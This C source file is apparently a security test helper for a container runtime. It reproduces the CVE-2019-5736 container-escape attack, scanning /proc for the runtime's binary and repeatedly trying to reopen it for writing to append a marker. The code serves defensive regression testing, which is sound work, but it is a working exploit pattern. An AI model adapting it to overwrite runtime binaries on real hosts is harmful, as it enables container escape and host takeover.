/*
 * sec-exe-attack SECONDS OUTFILE - the CVE-2019-5736 attacker, run inside a
 * container by tests/integration/test-security.sh.
 *
 * For up to SECONDS it scans /proc for a process whose /proc/PID/exe is a
 * regular file other than its own binary and /bin/busybox (i.e. the
 * runtime's binary, seen while a runtime process is in the container),
 * keeps an O_PATH fd of it, and then keeps trying to reopen that fd for
 * writing (/proc/self/fd/N, O_WRONLY|O_APPEND) to append a marker.
 * Every step goes to OUTFILE, one line each:
 *   found PID          an exe fd was obtained for PID
 *   read-ok PID        ...and the file could be opened for reading
 *   wrote              the marker was appended: the attack succeeded
 *   write-errno E      the last errno of the write attempts
 *   denied PID ERR     /proc/PID/exe could not be opened (once per pid)
 *   not-found          no such process was seen
 * Exit status: 0 wrote, 1 found but could not write, 2 not found.
 * Built with `cc -static -o DIR/sec-exe-attack sec-exe-attack.c`.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double
now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int
main(int argc, char **argv)
{
	struct stat self, bb, st;
	double deadline;
	FILE *out;
	int exe = -1, last_errno = 0, denied[64], n_denied = 0;
	pid_t found = 0;
	char path[300];

	if (argc != 3) {
		fprintf(stderr, "usage: sec-exe-attack SECONDS OUTFILE\n");
		return 64;
	}
	deadline = now() + atof(argv[1]);
	out = fopen(argv[2], "w");
	if (!out || stat("/proc/self/exe", &self) < 0)
		return 65;
	setvbuf(out, NULL, _IOLBF, 0);
	if (stat("/bin/busybox", &bb) < 0)
		bb = self;
	fprintf(out, "ready\n");
	while (exe < 0 && now() < deadline) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (!d)
			return 66;
		while (exe < 0 && (e = readdir(d))) {
			int fd;

			if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				int pid = atoi(e->d_name);

				/* Once per pid: a process whose exe we may not see. */
				if (errno == EACCES || errno == EPERM) {
					int seen = 0;

					for (int i = 0; i < n_denied && !seen; i++)
						seen = denied[i] == pid;
					if (!seen && n_denied < 64) {
						denied[n_denied++] = pid;
						fprintf(out, "denied %d %s\n", pid,
						        strerror(errno));
					}
				}
				continue;
			}
			if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) &&
			    !(st.st_dev == self.st_dev && st.st_ino == self.st_ino) &&
			    !(st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
				exe = fd;
				found = atoi(e->d_name);
			} else {
				close(fd);
			}
		}
		closedir(d);
	}
	if (exe < 0) {
		fprintf(out, "not-found\n");
		return 2;
	}
	fprintf(out, "found %d\n", (int)found);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	{
		int r = open(path, O_RDONLY | O_CLOEXEC);

		if (r >= 0) {
			fprintf(out, "read-ok %d\n", (int)found);
			close(r);
		}
	}
	while (now() < deadline) {
		int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);

		if (w >= 0) {
			static const char marker[] = "\nHUTCH-SEC-PWNED\n";

			if (write(w, marker, sizeof(marker) - 1) == (ssize_t)sizeof(marker) - 1) {
				fprintf(out, "wrote\n");
				return 0;
			}
			last_errno = errno;
			close(w);
		} else {
			last_errno = errno;
		}
		usleep(2000);
	}
	fprintf(out, "write-errno %d %s\n", last_errno, strerror(last_errno));
	return 1;
}
